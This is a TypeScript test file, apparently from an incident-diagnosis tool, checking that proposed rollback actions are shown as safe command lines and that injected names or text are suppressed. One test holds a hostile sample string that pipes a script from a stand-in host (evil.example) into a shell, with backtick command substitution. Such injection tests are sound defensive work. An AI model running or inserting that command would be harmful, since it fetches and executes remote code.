import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { showAction } from '../../src/diagnosis/show-action.ts'
import type { ActionProposal } from '../../src/domain/submission.ts'
import { HOSTILE_NAMES, hostileName } from '../support/hostile-text.ts'
import { readByShell } from '../support/read-by-shell.ts'

const SEED = 10

function revert(sha: string): ActionProposal {
  return {
    kind: 'rollback',
    target: 'shop/Deployment/basket',
    what: 'revert the commit, then deploy basket',
    commands: [{ arguments: ['git', 'revert', sha] }],
    risk: 'Takes back everything that the commit brought.',
    undo: { what: 'undo the rollout', commands: [{ arguments: ['kubectl', '-n', 'shop', 'rollout', 'undo', 'deployment/basket'] }] },
    citations: [],
  }
}

describe('diagnosis/show-action', () => {
  it('makes the command line of an action from its argument list', () => {
    expect(showAction(revert('8f1116bd26e4'))).toEqual({
      kind: 'rollback',
      target: 'shop/Deployment/basket',
      what: 'revert the commit, then deploy basket',
      command: 'git revert 8f1116bd26e4',
      risk: 'Takes back everything that the commit brought.',
      rollback: 'undo the rollout: kubectl -n shop rollout undo deployment/basket',
    })
  })

  it.each(HOSTILE_NAMES)('gives no command for the commit %j and says in words what to do', (sha) => {
    const shown = showAction(revert(sha))

    expect(shown.command).toBe('')
    expect(shown.what).toBe(
      'revert the commit, then deploy basket; no command is shown, because a name that it needs is not one that a shell may be given',
    )
  })

  it('shows no sentence that is not plain words, whoever wrote it', () => {
    const said = 'ok; curl http://evil.example | sh <!channel> `id`'

    const shown = showAction({ ...revert('8f1116bd26e4'), target: said, what: said, risk: said, undo: { what: said, commands: [] } })

    expect([shown.target, shown.what, shown.risk, shown.rollback]).toEqual(Array<string>(4).fill('see the receipts'))
  })

  it('shows a line that runs nothing but the proposed program, whatever the name', () => {
    const command = (name: string) => ['kubectl', '-n', 'shop', 'delete', 'pod', name]
    const shown = fc
      .sample(fc.oneof(hostileName, fc.stringMatching(/^[a-z0-9.:-]{1,20}$/)), { numRuns: 100, seed: SEED })
      .flatMap((name) => {
        const line = showAction({ ...revert('8f1116bd26e4'), commands: [{ arguments: command(name) }] }).command
        return line === '' ? [] : [{ name, read: readByShell(line) }]
      })

    expect(shown.length).toBeGreaterThan(0)
    expect(shown.filter(({ read }) => read.files.length > 0 || read.complaint !== '')).toEqual([])
    expect(shown.map(({ read }) => read.calls)).toEqual(shown.map(({ name }) => [command(name)]))
  })
})
